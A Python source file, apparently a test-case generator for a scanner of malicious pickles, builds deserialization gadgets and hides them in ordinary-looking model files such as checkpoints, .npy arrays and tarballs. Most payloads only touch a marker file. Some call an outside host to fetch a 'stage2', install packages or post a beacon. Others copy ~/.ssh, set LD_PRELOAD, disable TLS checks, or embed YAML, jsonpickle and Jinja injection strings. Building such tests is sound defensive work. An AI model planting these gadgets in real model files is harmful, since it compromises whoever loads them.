"""Third judge, attacks: callables of the standard library and of common packages that a pickle can call."""

from __future__ import annotations

import base64
import gzip
import marshal
import zlib
from typing import Any

from judge_kit import Folder, blob, build, call, instance, name, npy, opcodes, reduce, tarred, text, torch_zip, whole
from judge_kit import mapping as pushed_dict

MARK = "touch /tmp/third-judge-"
HOST = "198.51.100.7"
SH = ["sh", "-c"]


def run(slug: str) -> str:
    """A harmless shell command."""
    return MARK + slug


def code(slug: str) -> str:
    """Harmless Python source."""
    return f"import os; os.system({run(slug)!r})"


def expression(slug: str) -> str:
    """A harmless Python expression."""
    return f"__import__('os').system({run(slug)!r})"


def honest(inner: bytes, key: str, protocol: int) -> bytes:
    """A dictionary of training facts, one of whose values is the attack."""
    facts = opcodes({"epoch": 12, "loss": 0.25, "classes": ["ham", "spam"]}, 3)
    return whole(facts + text(key) + inner + b"s", protocol)


def dropped(inner: bytes, protocol: int) -> bytes:
    """The attack's value is thrown away and a list remains."""
    return whole(inner + b"0" + opcodes([0.5, 1.5, 2.5], 3), protocol)


def carried(number: int, inner: bytes, protocol: int) -> Folder:
    """The attack in one of twelve usual files."""
    way = number % 12
    if way == 0:
        return {"weights/classifier_final.pkl": honest(inner, "calibration", protocol)}
    if way == 1:
        return {"artifacts/encoder.joblib": dropped(inner, protocol)}
    if way == 2:
        return {"pytorch_model.bin": torch_zip(honest(inner, "lm_head.bias", protocol))}
    if way == 3:
        return {"cache/features.p": gzip.compress(dropped(inner, protocol), mtime=0)}
    if way == 4:
        return {"vocab": whole(b"(lp0\n" + inner + b"a" + opcodes("the", 3) + b"a", protocol)}
    if way == 5:
        head = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        return {"labels.npy": npy(head, honest(inner, "names", protocol))}
    if way == 6:
        return {"model.pickle": whole(inner + opcodes({"a": 1}, 3) + b"\x86", protocol)}
    if way == 7:
        return {"bundle.tar": tarred({"README": b"weights", "run/scaler.sav": dropped(inner, protocol)})}
    if way == 8:
        return {"estimator.dat": zlib.compress(honest(inner, "thresholds", protocol))}
    if way == 9:
        return {"optimizer.pt": torch_zip(dropped(inner, protocol)), "README.md": b"# Optimizer state\n"}
    if way == 10:
        head = build(instance("collections", "UserDict"), pushed_dict(data=inner))
        return {"state/session.dill": whole(head, protocol)}
    return {"checkpoint.ckpt": whole(inner + b"q\x07" + b"0" + b"h\x07" + b"\x85", protocol)}


def method(made: bytes, module: str, dotted: str, *values: Any) -> bytes:
    """Call an unbound method, named with dots, on what `made` pushes."""
    return reduce(name(module, dotted), made, *(opcodes(v, 3) for v in values))


def inner_pickle(slug: str) -> bytes:
    """A pickle to be loaded by a nested loader."""
    return whole(call("subprocess", "getoutput", run(slug)), 2)


def standard() -> dict[str, bytes]:
    """Opcodes by name: the standard library runs a program or a text."""
    return {
        "spawnve": call("os", "spawnve", 0, "/bin/sh", [*SH, run("a")], {"PATH": "/usr/bin:/bin"}),
        "posix-spawn": call("posix", "posix_spawn", "/bin/sh", [*SH, run("b")], {"PATH": "/usr/bin:/bin"}),
        "execvp-forked": call("os", "execvp", "sh", [*SH, run("c")]),
        "pty-spawn": call("pty", "spawn", [*SH, run("d")]),
        "subprocess-list2": call("subprocess", "check_output", [*SH, run("e")]),
        "getstatusoutput": call("subprocess", "getstatusoutput", run("f")),
        "timeit-repeat": reduce(name("timeit", "Timer.timeit"), call("timeit", "Timer", code("g")), b"K\x01"),
        "timeit-main": call("timeit", "main", ["-n1", "-r1", code("h")]),
        "cprofile-runctx": call("cProfile", "runctx", code("i"), {}, {}, "/dev/null"),
        "profile-run": call("profile", "run", code("j"), "/dev/null"),
        "trace-run": method(call("trace", "Trace", 0, 0), "trace", "Trace.run", code("k")),
        "bdb-run": method(call("bdb", "Bdb"), "bdb", "Bdb.runeval", expression("l")),
        "doctest-script": call("doctest", "debug_script", code("m"), True, {}),
        "code-runsource": method(
            call("code", "InteractiveInterpreter"), "code", "InteractiveInterpreter.runsource", code("n")
        ),
        "pydoc-pager": call("pydoc", "tempfilepager", "help", run("o") + " #"),
        "pydoc-pipe": call("pydoc", "pipepager", "help", run("p")),
        "mailcap-test": call(
            "mailcap", "findmatch", {"text/plain": [{"view": "cat %s", "test": run("q")}]}, "text/plain"
        ),
        "webbrowser": method(
            call("webbrowser", "GenericBrowser", [*SH, run("r")]),
            "webbrowser",
            "GenericBrowser.open",
            "http://localhost/",
        ),
        "logging-factory": call(
            "logging.config",
            "dictConfig",
            {"version": 1, "formatters": {"brief": {"()": "os.system", "command": run("s")}}},
        ),
        "spawnv-passfds": call("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [*SH, run("t")], ()),
        "asyncio-shell": reduce(name("asyncio", "run"), call("asyncio", "create_subprocess_shell", run("u"))),
        "idle-entity": call("idlelib.calltip", "get_entity", expression("v")),
        "script-helper": call("test.support.script_helper", "assert_python_ok", "-c", code("w")),
        "subinterpreter": call("_testcapi", "run_in_subinterp", code("x")),
        "run-module-code": call("runpy", "_run_module_code", code("y"), {}, "m"),
        "dataclass-default": call("dataclasses", "_create_fn", "f", [f"x={expression('z')}"], ["pass"]),
        "types-hints": reduce(
            name("typing", "get_type_hints"),
            reduce(name("builtins", "type"), text("C"), b")", opcodes({"__annotations__": {"a": expression("aa")}}, 3)),
        ),
        "defaultdict-missing": reduce(
            name("operator", "getitem"),
            reduce(
                name("collections", "defaultdict"),
                reduce(name("functools", "partial"), name("os", "system"), text(run("ab"))),
            ),
            text("any"),
        ),
        "tcl-exec": reduce(
            reduce(name("operator", "methodcaller"), text("eval"), text("exec " + run("ac"))), call("tkinter", "Tcl")
        ),
        "distutils-spawn": call("distutils.spawn", "spawn", [*SH, run("ad")]),
        "ensurepip": call("ensurepip", "_run_pip", ["install", f"http://{HOST}/x.tar.gz"]),
        "pip-main": call("pip._internal.cli.main", "main", ["install", "-i", f"http://{HOST}/simple", "torchtrition"]),
        "py2-commands": call("commands", "getoutput", run("ae")),
        "py2-map": reduce(
            name("builtins", "list"), reduce(name("itertools", "imap"), name("os", "system"), opcodes([run("af")], 3))
        ),
        "marshalled": reduce(
            reduce(
                name("types", "FunctionType"),
                call("marshal", "loads", marshal.dumps(compile(code("ag"), "m", "exec"))),
                b"}",
            )
        ),
        "compiled-function": reduce(
            reduce(name("types", "FunctionType"), call("builtins", "compile", code("ah"), "m", "exec"), b"}")
        ),
    }


def effects() -> dict[str, bytes]:
    """Opcodes by name: files are written or removed, hosts are called, the process is changed."""
    ssl_module = name("http.client", "ssl")
    return {
        "logging-file": call("logging", "FileHandler", "/tmp/third-judge-authorized_keys", "w"),
        "gzip-truncate": call("gzip", "GzipFile", "/tmp/third-judge-a.gz", "wb"),
        "zipfile-truncate": call("zipfile", "ZipFile", "/tmp/third-judge-b.zip", "w"),
        "path-write": method(
            call("pathlib", "PosixPath", "/tmp/third-judge-bashrc"), "pathlib", "Path.write_text", "id\n"
        ),
        "fileio": call("_io", "FileIO", "/tmp/third-judge-c", "w"),
        "copytree": call("shutil", "copytree", "/home/ml/.ssh", "/tmp/third-judge-ssh"),
        "move": call("shutil", "move", "/tmp/third-judge-x", "/tmp/third-judge-y"),
        "removedirs": call("os", "removedirs", "/tmp/third-judge-dir"),
        "unpack": call("shutil", "unpack_archive", "/tmp/third-judge.tar", "/tmp/third-judge-unpacked"),
        "numpy-memmap": call("numpy", "memmap", "/tmp/third-judge-memmap", "uint8", "w+", 0, (16,)),
        "numpy-savetxt": call("numpy", "savetxt", "/tmp/third-judge-cron", [1.0], "* * * * * id #%s"),
        "sqlite-attach": method(
            call("sqlite3", "connect", ":memory:"),
            "sqlite3",
            "Connection.execute",
            "ATTACH '/tmp/third-judge.db' AS a",
        ),
        "dns": call("socket", "gethostbyname", "model-loaded.third-judge.example"),
        "getaddrinfo": call("socket", "getaddrinfo", "loaded.third-judge.example", 443),
        "certificate": call("ssl", "get_server_certificate", (HOST, 443)),
        "smtp": call("smtplib", "SMTP", HOST, 2525),
        "poplib": call("poplib", "POP3", HOST),
        "urlretrieve": call("urllib.request", "urlretrieve", f"http://{HOST}/stage2", "/tmp/third-judge-stage2"),
        "py2-urllib": call("urllib2", "urlopen", f"http://{HOST}/beacon"),
        "loadtxt-url": call("numpy", "loadtxt", f"http://{HOST}/beacon"),
        "pandas-url": call("pandas", "read_csv", f"http://{HOST}/x?model=loaded"),
        "sax-url": call("xml.sax", "parse", f"http://{HOST}/x.xml", None),
        "connection": call("multiprocessing.connection", "Client", (HOST, 6000)),
        "os-kill": call("os", "kill", 1, 9),
        "raise-signal": call("signal", "raise_signal", 9),
        "segfault": call("ctypes", "string_at", 0),
        "sys-path": reduce(name("sys", "path.insert"), b"K\x00", text("/tmp/third-judge-path")),
        "tls-off": reduce(
            name("builtins", "setattr"),
            ssl_module,
            text("_create_default_https_context"),
            name("ssl", "_create_unverified_context"),
        ),
        "compare-patched": reduce(
            name("builtins", "setattr"), name("secrets", "hmac"), text("compare_digest"), name("builtins", "max")
        ),
        "putenv": call("os", "putenv", "LD_PRELOAD", "/tmp/third-judge.so"),
        "breakpoint": reduce(
            name("operator", "setitem"), name("os", "environ"), text("PYTHONBREAKPOINT"), text("os.system")
        )
        + b"0"
        + call("builtins", "breakpoint", run("breakpoint")),
        "atexit": reduce(name("atexit", "register"), name("os", "system"), text(run("atexit"))),
    }


def nested() -> dict[str, bytes]:
    """Opcodes by name: a loader is called with the bytes or the text of an attack."""
    yaml = "!!python/object/apply:subprocess.getoutput ['" + run("yaml") + "']"
    jsonpickle = '{"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["' + run("jsonpickle") + '"]}]}'
    template = "{{ cycler.__init__.__globals__.os.popen('" + run("jinja") + "').read() }}"
    return {
        "pickle-private": call("pickle", "_loads", inner_pickle("n1")),
        "c-pickle": call("_pickle", "loads", inner_pickle("n2")),
        "py2-cpickle": call("cPickle", "loads", inner_pickle("n3")),
        "forking-pickler": reduce(name("multiprocessing.reduction", "ForkingPickler.loads"), blob(inner_pickle("n4"))),
        "unpickler-object": method(
            reduce(name("pickle", "Unpickler"), call("io", "BytesIO", inner_pickle("n5"))), "pickle", "Unpickler.load"
        ),
        "pandas-read": reduce(name("pandas", "read_pickle"), call("io", "BytesIO", inner_pickle("n6")), b"N"),
        "joblib-cloudpickle": call("joblib.externals.cloudpickle", "loads", inner_pickle("n7")),
        "joblib-load-bytes": reduce(name("joblib", "load"), call("io", "BytesIO", inner_pickle("n8"))),
        "base64-chain": reduce(
            name("pickle", "loads"), call("base64", "b85decode", base64.b85encode(inner_pickle("n9")))
        ),
        "zlib-chain": reduce(name("pickle", "loads"), call("zlib", "decompress", zlib.compress(inner_pickle("n10")))),
        "codecs-chain": reduce(
            name("_pickle", "loads"), call("_codecs", "decode", inner_pickle("n11").hex().encode(), "hex")
        ),
        "torch-from-bytes": call("torch.storage", "_load_from_bytes", torch_zip(inner_pickle("n12"))),
        "numpy-read-array": reduce(
            name("numpy.lib.format", "read_array"),
            call("io", "BytesIO", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", inner_pickle("n13"))),
            b"\x88",
        ),
        "statsmodels": reduce(
            name("statsmodels.iolib.smpickle", "load_pickle"), call("io", "BytesIO", inner_pickle("n14"))
        ),
        "yaml": call("yaml", "unsafe_load", yaml),
        "jsonpickle": call("jsonpickle", "decode", jsonpickle),
        "jinja": method(call("jinja2.environment", "Template", template), "jinja2.environment", "Template.render"),
        "dill-module": reduce(
            reduce(name("operator", "methodcaller"), text("system"), text(run("n15"))),
            call("dill._dill", "_import_module", "os"),
        ),
        "cloudpickle-subimport": reduce(
            reduce(name("operator", "methodcaller"), text("popen"), text(run("n16"))),
            call("cloudpickle.cloudpickle", "subimport", "os"),
        ),
        "ray": call("ray.cloudpickle", "loads", inner_pickle("n17")),
        "tracemalloc": reduce(name("tracemalloc", "Snapshot.load"), text("state.bin")),
    }


def packages() -> dict[str, bytes]:
    """Opcodes by name: third-party packages that run a text or a program."""
    body = {"_code": f"def forward(self):\n    {code('t3')}\n"}
    return {
        "sympy-sympify": call("sympy", "sympify", expression("t1")),
        "sympy-parse": call("sympy.parsing.sympy_parser", "parse_expr", expression("t2")),
        "fx-graph": call("torch.fx.graph_module", "reduce_graph_module", body, code("t3")),
        "fx-exec": call("torch.fx.graph_module", "_forward_from_src", code("t4") + "\ndef forward(s): pass\n", {}),
        "torch-exec": call("torch.jit.unsupported_tensor_ops", "execWrapper", code("t5"), {}, {}),
        "torch-hub": call("torch.hub", "load", "someone-new/kernels", "fast_model"),
        "torch-collect": call("torch.utils.collect_env", "run", [*SH, run("t6")]),
        "torch-library": reduce(name("torch", "ops.load_library"), text("./libfast.so")),
        "tf-library": call("tensorflow.python.framework.load_library", "load_op_library", "./_ops.so"),
        "f2py-eval": call("numpy.f2py.crackfortran", "myeval", expression("t7"), {}, {}),
        "numpy-runstring": call("numpy.testing._private.utils", "runstring", code("t8"), {}),
        "numexpr": call("numexpr", "evaluate", "(" + expression("t9") + ")"),
        "paramiko": call("paramiko.proxy", "ProxyCommand", "sh -c '" + run("t10") + "'"),
        "pexpect": call("pexpect", "run", run("t11")),
        "psutil-popen": call("psutil", "Popen", [*SH, run("t12")]),
        "invoke": call("invoke", "run", run("t13")),
        "ipython": call("IPython.utils.process", "getoutput", run("t14")),
        "module-alias": reduce(name("joblib.memory", "os.system"), text(run("t15"))),
        "setuptools-sandbox": call("setuptools.sandbox", "_execfile", "setup_hook.py", {}),
        "transformers-remote": call("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "m.X", "x/y"),
        "mlflow-load": call("mlflow.pyfunc", "load_model", f"http://{HOST}/model"),
        "keras-load": call("keras.models", "load_model", f"http://{HOST}/m.keras", None, True, False),
        "requests": call("requests.api", "post", f"http://{HOST}/loaded", "who=me"),
        "gdown": call("gdown", "download", f"http://{HOST}/x", "/tmp/third-judge-gdown"),
    }


def shapes() -> dict[str, Folder]:
    """Every gadget in one of the usual files."""
    made: dict[str, Folder] = {}
    number = 0
    for kind, table in (
        ("stdlib", standard()),
        ("effect", effects()),
        ("loader", nested()),
        ("package", packages()),
    ):
        for slug, inner in table.items():
            number += 1
            old = slug.startswith("py2")
            protocol = 2 if old else (4, 5)[number % 2]
            made[f"gadget-{kind}--{slug}"] = carried(number, inner, protocol)
    made["gadget-loader--tracemalloc"]["state.bin"] = inner_pickle("n18")
    made["gadget-package--setuptools-sandbox"]["setup_hook.py"] = code("t16").encode() + b"\n"
    return made
